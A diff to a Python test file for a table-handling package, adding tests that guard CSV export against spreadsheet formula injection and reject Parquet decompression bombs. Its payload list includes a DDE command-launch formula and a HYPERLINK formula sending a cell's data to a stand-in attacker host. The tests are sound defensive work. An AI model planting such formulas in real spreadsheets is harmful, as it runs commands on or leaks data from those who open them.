@@ -1,10 +1,13 @@
 """Tables in: every bad one is an error that names the row and the column; every good one is numbers."""
 
+import csv
 import json
 
 import numpy as np
 import pytest
 
+from lawful import table as tables
+from lawful import unpack
 from lawful.errors import LawfulError
 from lawful.table import COLUMNS, Observations, current_name, read_runs, write_csv
 
@@ -154,6 +157,79 @@ def test_numpys_own_numbers_are_numbers() -> None:
     assert [row["tokens"] for row in table] == [1024, 2048]
     with pytest.raises(LawfulError, match=r"expected a positive count \(tokens\), got -1"):
         read_runs([{"tokens": np.int64(-1), "loss": 1.0}, rows[0]])
+
+
+# what spreadsheets run when a table is opened (OWASP, CSV injection), and texts that look nearly like it
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?"&A1,"open")',
+    "+1+cmd",
+    "-1+cmd",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\uff1d1+1",
+    "'=1",
+    "''=1",
+    "'@",
+    "=",
+]
+HARMLESS = ["'quoted'", "it's", "a=b", "size=3,tokens=1000", "", "'", "-", "x-y", "a\rb", "a\nb", 'a"b', "é"]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
+def test_no_text_that_is_written_runs_in_a_spreadsheet_and_each_is_read_back_as_it_was(tmp_path, text):
+    row = {
+        "rung": text,
+        "at_axis": text,
+        "loss": 3.5,
+        "gain": -3.5,
+        "status": "finished",
+        "reason": "x",
+        "note": "-3.5",
+    }
+    path = tmp_path / "observations.csv"
+    write_csv(path, [row | {text or "also": 1}])
+    with path.open(encoding="utf-8", newline="") as file:
+        names, cells = list(csv.reader(file))  # what a spreadsheet sees
+    shown = dict(zip(names, cells, strict=True))
+    runs = [cell for cell in [*names, *cells] if cell[:1] in ("=", "+", "@", "\t", "\r", "\n", "\uff1d")]
+    runs += [cell for cell in cells if cell[:1] == "-" and cell != "-3.5"]
+    assert runs == ([] if text != "-" else runs)
+    assert shown["gain"] == "-3.5" and shown["note"] == "-3.5"
+    (back,) = read_runs(tmp_path)
+    assert (back["rung"], back["at_axis"] or "", back[text or "also"]) == (text, text, 1)
+    (kept,) = tables.read_cells(path)
+    assert (kept["rung"], kept["at_axis"], kept[text or "also"]) == (text, text, "1")
+    before = path.read_bytes()
+    write_csv(path, [kept])  # as a table that is kept is written again
+    assert path.read_bytes() == before
+
+
+def test_a_field_that_no_column_is_named_for_is_not_lost_in_silence(tmp_path):
+    with pytest.raises(ValueError, match="not in fieldnames"):
+        write_csv(tmp_path / "runs.csv", [{"loss": 1, "other": 2}], columns=["loss"])
+
+
+def test_a_parquet_table_that_stands_for_far_more_than_it_weighs_is_refused(tmp_path, monkeypatch):
+    pyarrow = pytest.importorskip("pyarrow", reason="Parquet needs pyarrow")
+    from pyarrow import parquet
+
+    path = tmp_path / "bomb.parquet"
+    monkeypatch.setattr(tables, "MOST_CELLS", 900_000)
+    parquet.write_table(pyarrow.table({"loss": pyarrow.array([1.0] * 1_000_000)}), path)
+    assert path.stat().st_size < 10_000
+    with pytest.raises(LawfulError, match=r"bomb\.parquet: expected a table of at most 900,000 cells, got 1,000,000"):
+        read_runs(path)
+    monkeypatch.setattr(unpack, "LEAST_ROOM", 2**20)
+    word = pyarrow.array(["x" * 1_000])
+    many = pyarrow.DictionaryArray.from_arrays(pyarrow.array([0] * 50_000, pyarrow.int32()), word).cast(
+        pyarrow.string()
+    )
+    parquet.write_table(pyarrow.table({"run": many}), path)
+    with pytest.raises(LawfulError, match=r"bomb\.parquet: expected at most [\d,]+ bytes in a file of its size"):
+        read_runs(path)
 
 
 OWN = {"study": "toy", "run": "a", "rung": "size=1", "data_fingerprint": "1", "params": 1000, "loss": 3.0}
